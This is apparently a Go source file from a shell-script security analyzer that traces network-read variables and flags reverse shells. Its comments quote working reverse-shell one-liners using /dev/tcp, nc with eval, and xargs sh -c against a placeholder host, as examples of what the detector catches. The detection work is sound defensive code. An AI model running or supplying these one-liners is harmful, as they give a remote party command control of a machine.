package shell

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Lines read from the network and then run. A reverse shell need not pipe
// a connection into sh: it can read one line at a time and run each,
//
//	exec 5<>/dev/tcp/h/4444; while read l <&5; do eval "$l"; done
//	nc h 4444 | while read -r c; do $c; done
//
// so a value read from the network (read, mapfile, a for loop over a
// substitution, an assignment from one) carries where it came from
// (shVar.net) wherever it goes next, and a shell that runs it as code
// (eval, sh -c, source, bash <<< "$l", the value as the command word, an
// interpreter's inline code) runs what the other end sends.

// markNet records that the variable name holds data read from the stream
// described by what.
func (st *shState) markNet(name, what string) {
	v, ok := st.lookup(name)
	if !ok {
		v = shVar{vals: []string{"$" + name}, dyn: true}
	}
	v.net = what
	st.setVar(st.refTarget(name), v)
	if st.work != nil {
		st.work.netVars = true
	}
}

// netIn returns where the network data that word expands comes from, when
// it uses a variable read from the network; "" otherwise.
func (w *walker) netIn(word *syntax.Word) string {
	if word == nil || !w.r.fl().budget.netVars {
		return ""
	}
	st := w.state()
	found := ""
	syntax.Walk(word, func(n syntax.Node) bool {
		if found != "" {
			return false
		}
		switch x := n.(type) {
		case *syntax.CmdSubst, *syntax.ProcSubst:
			return false // what a substitution prints is judged as it runs
		case *syntax.ParamExp:
			if x.Param != nil {
				if v, ok := st.lookup(x.Param.Value); ok && v.net != "" {
					found = v.net
				}
			}
		}
		return true
	})
	return found
}

// netStream is the stream of network data described by what.
func netStream(what string) stream {
	return stream{kind: streamNetwork, what: what}
}

// runsConnection reports c running, as commands or code, what arrives on
// the connection s was read from: a reverse shell. It returns false when s
// was not read from a connection.
func (w *walker) runsConnection(c *Cmd, s stream) bool {
	sock, ok := socketOf(s)
	if !ok {
		return false
	}
	w.r.add(c.find(ruleReverseShell, "Runs as commands the lines that arrive on the connection to "+sock+": whoever is at the other end controls this machine.", sock))
	w.r.mutates()
	return true
}

// connectionIn returns the first stream of ss read from a connection.
func connectionIn(ss []stream) (stream, bool) {
	for _, s := range ss {
		if _, ok := socketOf(s); ok {
			return s, true
		}
	}
	return stream{}, false
}

// netFields marks the fields a word expanded to (proc[from:]) as network
// data when the word uses a variable read from the network.
func (w *walker) netFields(word *syntax.Word, proc []stream, from int) {
	what := w.netIn(word)
	if what == "" {
		return
	}
	for i := from; i < len(proc); i++ {
		if proc[i].kind != streamSecret && proc[i].kind != streamNetwork {
			proc[i] = netStream(what)
		}
	}
}

// fedStreams are the streams of the words of a command xargs or parallel
// builds: the words that arrive on standard input carry the network data
// they come from (nc h p | xargs -I{} sh -c '{}').
func fedStreams(cmd []string, dyn []bool, src stream) []stream {
	proc := make([]stream, len(cmd))
	if src.kind != streamNetwork {
		return proc
	}
	for i := range cmd {
		if i < len(dyn) && dyn[i] && strings.Contains(cmd[i], "$(stdin)") {
			proc[i] = src
		}
	}
	return proc
}

// netArg returns the network data one of c's arguments carries (echo
// "$line" prints what the connection sent).
func netArg(c *Cmd) (stream, bool) {
	for _, s := range c.proc {
		if s.kind == streamNetwork {
			return s, true
		}
	}
	return stream{}, false
}
